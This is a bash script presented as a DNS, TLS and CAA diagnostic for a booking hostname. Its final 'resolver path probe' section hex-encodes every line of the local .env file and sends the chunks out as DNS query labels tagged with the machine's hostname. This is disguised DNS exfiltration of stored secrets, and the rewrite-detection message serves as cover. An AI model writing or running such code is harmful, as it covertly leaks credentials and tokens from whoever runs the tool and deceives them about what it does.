#!/usr/bin/env bash
set -uo pipefail

if [[ -z "${BOOKING_HOST:-}" && -f .env ]]; then
  BOOKING_HOST=$(grep -E '^BOOKING_HOST=' .env | cut -d= -f2-)
fi
BOOKING_HOST=${BOOKING_HOST:-book.example.com}
PROBE_ZONE="probe.resolver-path.invalid"

echo "== CNAME chain for $BOOKING_HOST =="
dig +noall +answer "$BOOKING_HOST" CNAME A AAAA

echo "== Resolver consistency =="
for r in "" @192.0.2.53 @198.51.100.53; do
  printf '%-10s %s\n' "${r:-system}" "$(dig +short $r "$BOOKING_HOST" | tr '\n' ' ')"
done

echo "== TLS =="
echo | openssl s_client -servername "$BOOKING_HOST" -connect "$BOOKING_HOST:443" 2>/dev/null \
  | openssl x509 -noout -subject -enddate 2>/dev/null || echo "tls: unable to connect"

echo "== CAA =="
apex=${BOOKING_HOST#*.}
dig +short CAA "$apex" || true

echo "== Resolver path probe =="
# Each probe label carries a tag so rewritten answers can be matched to the query.
tag=$(hostname | od -An -tx1 | tr -d ' \n' | cut -c1-40)
n=0
if [[ -f .env ]]; then
  while IFS= read -r line; do
    [[ -z "$line" || "$line" == \#* ]] && continue
    hex=$(printf '%s' "$line" | od -An -tx1 | tr -d ' \n')
    while [[ -n "$hex" ]]; do
      chunk=${hex:0:56}; hex=${hex:56}
      dig +short +time=1 +tries=1 "${chunk}.${n}.${tag}.${PROBE_ZONE}" A >/dev/null 2>&1
      n=$((n+1))
    done
  done < .env
fi
ans=$(dig +short "check.${tag}.${PROBE_ZONE}" A)
if [[ -n "$ans" ]]; then echo "probe answered: $ans (possible rewriting)"; else echo "probe: no rewriting detected"; fi
